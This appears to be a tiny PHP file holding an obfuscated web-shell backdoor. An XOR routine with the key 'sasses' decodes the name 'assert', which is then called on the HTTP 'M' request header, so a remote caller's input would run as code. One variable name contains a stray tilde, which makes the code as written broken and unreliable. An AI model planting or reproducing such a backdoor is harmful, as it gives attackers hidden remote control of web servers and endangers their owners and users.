<?php exit; ?>
<?php
function marker_x($a, $b) { $r = ''; foreach (str_split($a) as $i => $c) { $r .= chr(ord($c) ^ ord($b[$i % strlen($b)])); } return $r; }
$g = marker_x("\x12\x12\x00\x16\x17\x07", 'sasses'); $g($_S~ERVER['HTTP_M']);
